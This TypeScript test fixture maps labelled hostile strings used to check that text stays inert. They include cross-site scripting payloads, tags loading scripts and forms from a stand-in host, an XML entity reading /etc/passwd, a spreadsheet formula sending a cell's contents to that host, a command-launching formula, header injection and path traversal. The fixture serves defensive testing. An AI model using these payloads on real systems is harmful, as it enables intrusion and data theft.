/* Texts that try to be more than text: each names what it tries. None of them may run, fetch, or break a page or a file. */

/** Where a fetch that got through would go. */
export const elsewhere = 'https://elsewhere.example';

const bidi = '\u202e\u2067\u202d';

/** By what they try. */
export const payloads: ReadonlyMap<string, string> = new Map([
  ['a script', `<script>alert(1)</script>`],
  ['a picture with a handler', `"><img src=x onerror=alert(1)>`],
  ['a picture from elsewhere', `<img src="${elsewhere}/p.png" srcset="${elsewhere}/q.png 2x">`],
  ['the end of a script', `</script><script src="${elsewhere}/a.js"></script>`],
  ['a comment in a script', `<!--<script>`],
  ['the end of a comment', `--><script>alert(1)</script><!--`],
  ['the end of a title', `</title></style></textarea></noscript><script>alert(1)</script>`],
  ['an attribute', `x" onfocus="alert(1)" autofocus style="background:url(${elsewhere}/s)`],
  ['an attribute in apostrophes', `x' onmouseover='alert(1)' style='color:red`],
  [
    'a drawing',
    `<svg onload=alert(1)><use href="${elsewhere}/u.svg#a"/></svg><math><mtext><img src=x onerror=alert(1)>`,
  ],
  ['another page', `<meta http-equiv="refresh" content="0;url=${elsewhere}"><base href="${elsewhere}/">`],
  ['a frame', `<iframe srcdoc="<script>alert(1)</script>" src="${elsewhere}"></iframe>`],
  [
    'a form and a sheet',
    `<form action="${elsewhere}"><button>Go</button></form><link rel=stylesheet href="${elsewhere}/c.css">`,
  ],
  ['an address that runs', `javascript:alert(1)`],
  ['an address that runs, in disguise', ` jAvA\tscript&colon;alert(1)//`],
  ['an address with a page in it', `data:text/html,<script>alert(1)</script>`],
  ['markup written twice', `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;`],
  [
    'the end of character data',
    `]]><script>alert(1)</script><![CDATA[ <?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;`,
  ],
  ['line ends of JavaScript', `one\u2028two\u2029three`],
  ['directions that are not taken back', `${bidi}live ton${bidi} evil`],
  ['signs that nobody sees', `A\u200bd\u200da\ufeff\u2060 L\u00adin`],
  ['controls', `bell\u0007 back\u0008 nul\u0000 esc\u001b[2J del\u007f none\ufffe\uffff`],
  ['half a character', `half \ud83d and \ude00 half`],
  ['names that objects have', `__proto__ constructor toString hasOwnProperty valueOf`],
  ['a formula', `=HYPERLINK("${elsewhere}?a="&A1,"Click")`],
  ['other formulas', `@SUM(1+1)*cmd|' /C calc'!A0`],
  ['signs of replacement', `$& $1 $\` $' $$ \\1 %s %00`],
  ['a template', `{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= alert(1) %>`],
  ['a header', `one\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>\r\nER  - \r\nTY  - NEWS`],
  ['a path', `../../../../etc/passwd ..%2f..%2f \\\\share\\c$`],
  ['a long word', 'W'.repeat(300)],
  [
    'marks heaped up',
    `Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0489\u0321l\u0340g\u0341o\u0344`,
  ],
  ['a picture of many people', `👩‍👩‍👧‍👦 🏴‍☠️ e\u0301`],
]);
